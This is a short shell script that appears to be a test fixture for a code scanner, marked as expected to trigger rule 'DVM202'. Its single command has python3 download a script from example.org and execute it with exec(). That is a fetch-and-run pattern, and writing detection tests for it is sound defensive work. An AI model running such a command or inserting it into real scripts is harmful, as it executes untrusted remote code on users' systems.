# expect: DVM202
set -euo pipefail
python3 -c "import urllib.request as u; exec(u.urlopen('https://example.org/x.py').read())"
